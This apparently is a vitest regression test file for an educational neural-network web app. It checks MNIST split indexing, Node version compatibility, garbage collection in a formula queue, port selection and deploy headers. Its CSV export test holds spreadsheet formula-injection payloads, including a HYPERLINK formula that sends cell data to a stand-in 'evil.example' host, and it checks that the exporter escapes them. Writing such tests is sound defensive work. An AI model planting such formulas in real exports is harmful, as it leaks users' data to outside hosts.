/**
 * Regression tests for issues 16 and 26 ("What a tester broke", "what a tester found, round two"),
 * the parts that need no browser: what goes out — CSV export, the test digits' numbering, the
 * formula queue's memory — and the toolchain (Node versions, the e2e port, the deploy recipe).
 */
import { describe, expect, it, vi } from 'vitest';
import { formatValue, parseParams } from '../../src/store/params';
import { experimentHeaderOf, historyCsv } from '../../src/viz/export';

describe('8. one numbering of the convolution lesson’s test digits', () => {
  it('cnnTestIndices is the split the worker uses', async () => {
    const { cnnTestIndices, splitMnist, MNIST_SPLIT_SEED } = await import('../../src/engine/data/mnist');
    const { TRAIN_COUNT, TEST_COUNT } = await import('../../src/engine/tasks/cnn');
    const count = 10000;
    const data = { count, rows: 28, cols: 28, images: new Uint8Array(count * 784), labels: new Uint8Array(count) };
    const split = splitMnist(data as never, { seed: MNIST_SPLIT_SEED, trainCount: TRAIN_COUNT, testCount: TEST_COUNT });
    expect(Array.from(cnnTestIndices(count))).toEqual(Array.from(split.testIndices));
    expect(cnnTestIndices(count)[0]).not.toBe(0);
  });
});

/* ---------- Issue 26 ("what a tester found, round two") ---------- */

describe('26.7 every locked package runs on the Node version the README and engines name', () => {
  it('the minimum of package.json engines.node satisfies each package’s engines.node', async () => {
    const { readFileSync } = await import('node:fs');
    // semver comes with the toolchain (Babel's), untyped here; only these two functions are used.
    const semver = (await import('semver' as string)).default as {
      minVersion(range: string): { version: string } | null;
      satisfies(v: string, range: string): boolean;
    };
    const pkg = JSON.parse(readFileSync('package.json', 'utf8')) as { engines: { node: string } };
    const lock = JSON.parse(readFileSync('package-lock.json', 'utf8')) as {
      packages: Record<string, { version?: string; engines?: { node?: string } | string[] }>;
    };
    const min = semver.minVersion(pkg.engines.node)!.version;
    // The README says the same minimum.
    expect(readFileSync('README.md', 'utf8')).toContain(`Node ${min.replace(/\.0$/, '')}+`);
    const refused = Object.entries(lock.packages)
      .filter(([, p]) => p.engines && !Array.isArray(p.engines) && p.engines.node)
      .filter(([, p]) => !semver.satisfies(min, (p.engines as { node: string }).node))
      .map(([name, p]) => `${name}@${p.version} wants node ${(p.engines as { node: string }).node}`);
    expect(refused).toEqual([]);
  });
});

describe('26.14 the formula queue holds no element after it is done with it', () => {
  it('an element whose formula was cancelled (its lesson left) can be collected', async () => {
    const { setFlagsFromString } = await import('node:v8');
    const { runInNewContext } = await import('node:vm');
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const observed = new Set<object>();
    class FakeIO {
      constructor(public cb: IntersectionObserverCallback) {}
      observe(el: Element) {
        observed.add(el);
      }
      unobserve(el: Element) {
        observed.delete(el);
      }
      disconnect() {
        observed.clear();
      }
    }
    const g = globalThis as Record<string, unknown>;
    const saved = { IntersectionObserver: g.IntersectionObserver, window: g.window };
    g.IntersectionObserver = FakeIO;
    g.window = globalThis;
    try {
      vi.resetModules();
      const { whenDue } = await import('../../src/math/formulaQueue');
      // The first lesson's formulas, then leaving the lesson (React unmounts: each cancel runs).
      // (Made and cancelled in plain functions: a suspended async function would keep the last one in a register.)
      const refs: WeakRef<object>[] = [];
      const cancels: (() => void)[] = [];
      const mount = (i: number) => {
        const el = { id: `formula-${i}`, tree: new Array(1000).fill(i) };
        refs.push(new WeakRef(el));
        cancels.push(whenDue(el as unknown as Element, () => {}));
      };
      for (let i = 0; i < 3; i++) mount(i);
      expect(observed.size).toBe(3);
      cancels.splice(0).forEach((c) => c());
      expect(observed.size).toBe(0);
      // A later lesson's formula keeps the queue (and its observer) in use.
      const later = { id: 'later' };
      const cancelLater = whenDue(later as unknown as Element, () => {});
      for (let i = 0; i < 3; i++) {
        await new Promise((r) => setTimeout(r, 0));
        gc();
      }
      expect(refs.map((r) => r.deref() === undefined)).toEqual([true, true, true]);
      cancelLater();
    } finally {
      for (const [k, v] of Object.entries(saved)) {
        if (v === undefined) delete g[k];
        else g[k] = v;
      }
      vi.resetModules();
    }
  });
});

/** The cells of a CSV text as a spreadsheet splits them (RFC 4180 quoting). */
function csvCells(text: string): { cell: string; quoted: boolean }[][] {
  const rows: { cell: string; quoted: boolean }[][] = [];
  for (const line of text.split('\n').filter(Boolean)) {
    const row: { cell: string; quoted: boolean }[] = [];
    let i = 0;
    while (i <= line.length) {
      if (line[i] === '"') {
        let cell = '';
        i++;
        for (;;) {
          if (line[i] === '"' && line[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else if (line[i] === '"') break;
          else cell += line[i++];
        }
        row.push({ cell, quoted: true });
        i += 2; // closing quote and comma
      } else {
        const end = line.indexOf(',', i) < 0 ? line.length : line.indexOf(',', i);
        row.push({ cell: line.slice(i, end), quoted: false });
        i = end + 1;
      }
    }
    rows.push(row);
  }
  return rows;
}

describe('26.8 CSV export: the values the run used, and no formula cells', () => {
  it('the header names the parsed seed and settings, not the link’s raw text', async () => {
    const { PARAMS } = await import('../../lessons/relu-vs-sigmoid/params');
    const { values } = parseParams(PARAMS, new URLSearchParams('depth=999&seed=123456&lr=abc'));
    const v = values as Record<string, unknown>;
    const h = experimentHeaderOf(
      'relu-vs-sigmoid',
      { table: PARAMS, values: v, format: (k) => formatValue(PARAMS[k as keyof typeof PARAMS], v[k]) },
      'http://x/#/lessons/relu-vs-sigmoid?depth=999&seed=123456&lr=abc',
      new Date(0),
    );
    expect(h.seed).toBe('9999');
    expect(h.settings).toContain('depth=6');
    expect(h.settings).toContain('seed=9999');
    expect(h.settings).toContain('lr=0.1');
    expect(h.settings).not.toContain('abc');
  });
  it('a formula in a link or a label becomes text (OWASP: a leading quote), every field quoted, numbers stay numbers', () => {
    const evil = '1,=HYPERLINK("http://evil.example/?leak="&A3,"help")';
    const csv = historyCsv(
      [
        { label: '=SUM(A1:A9)', x: [1, 2], y: [-0.5, 2], n: 2 },
        { label: '@cmd', x: [1], y: [1e-7], n: 1 },
        { label: '+1', x: [2], y: [-3], n: 1 },
        { label: '\tx', x: [2], y: [4], n: 1 },
      ],
      { lesson: 'x', seed: evil, settings: `seed=${evil}`, link: `http://x/#/lessons/x?seed=${evil}` },
    );
    const rows = csvCells(csv);
    // Header lines: one cell each, whatever the value holds.
    expect(rows.slice(0, 4).map((r) => r.length)).toEqual([1, 1, 1, 1]);
    expect(rows[1]![0]!.cell).toBe(`# seed: ${evil}`);
    expect(rows[4]!.map((c) => c.cell)).toEqual(['step', "'=SUM(A1:A9)", "'@cmd", "'+1", "'\tx"]);
    for (const row of rows) {
      for (const { cell, quoted } of row) {
        if (quoted) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
        else expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true);
      }
    }
    expect(rows[5]!.map((c) => c.cell)).toEqual(['1', '-0.5', '1e-7', '', '']);
  });
});

describe('26.6 npm test moves the e2e server to a free port when 4317 is taken, and names who holds it', () => {
  it('choosePort skips a taken port; portHolder names the process; test.mjs passes the port on', async () => {
    const { createServer } = await import('node:net');
    const { readFileSync } = await import('node:fs');
    // @ts-expect-error: plain ESM helper of the scripts
    const ports = (await import('../../scripts/ports.mjs')) as {
      choosePort(p: number, tries?: number): Promise<{ port: number | null; taken: boolean }>;
      isPortFree(p: number): Promise<boolean>;
      portHolder(p: number): string | null;
    };
    // A leftover preview server: something listening on the port npm test wants.
    const srv = createServer();
    await new Promise<void>((r) => srv.listen({ port: 0, host: '127.0.0.1' }, r));
    const held = (srv.address() as { port: number }).port;
    try {
      expect(await ports.isPortFree(held)).toBe(false);
      const chosen = await ports.choosePort(held);
      expect(chosen.taken).toBe(true);
      expect(chosen.port).not.toBe(held);
      expect(await ports.isPortFree(chosen.port!)).toBe(true);
      // With no other port allowed (E2E_PORT set): no port, so test.mjs stops with a message.
      expect(await ports.choosePort(held, 1)).toEqual({ port: null, taken: true });
      const who = ports.portHolder(held);
      if (who !== null) expect(who).toContain(`pid ${process.pid}`);
    } finally {
      await new Promise((r) => srv.close(r));
    }
    expect(await ports.choosePort(held)).toEqual({ port: held, taken: false });
    const script = readFileSync('scripts/test.mjs', 'utf8');
    expect(script).toMatch(/choosePort\(/);
    expect(script).toMatch(/E2E_PORT: String\(port\)/);
  });
});

describe('26.15 the deploy recipe says which header stops framing (a meta CSP cannot)', () => {
  it('README names frame-ancestors and X-Frame-Options; the meta policy does not pretend to set it', async () => {
    const { readFileSync } = await import('node:fs');
    const readme = readFileSync('README.md', 'utf8');
    const deploy = readme.slice(
      readme.indexOf('**Deploying:**'),
      readme.indexOf('\n## ', readme.indexOf('**Deploying:**')),
    );
    expect(deploy).toContain("Content-Security-Policy: frame-ancestors 'self'");
    expect(deploy).toContain('X-Frame-Options: SAMEORIGIN');
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/.exec(
      readFileSync('index.html', 'utf8'),
    )![1]!;
    expect(meta).not.toContain('frame-ancestors');
  });
});
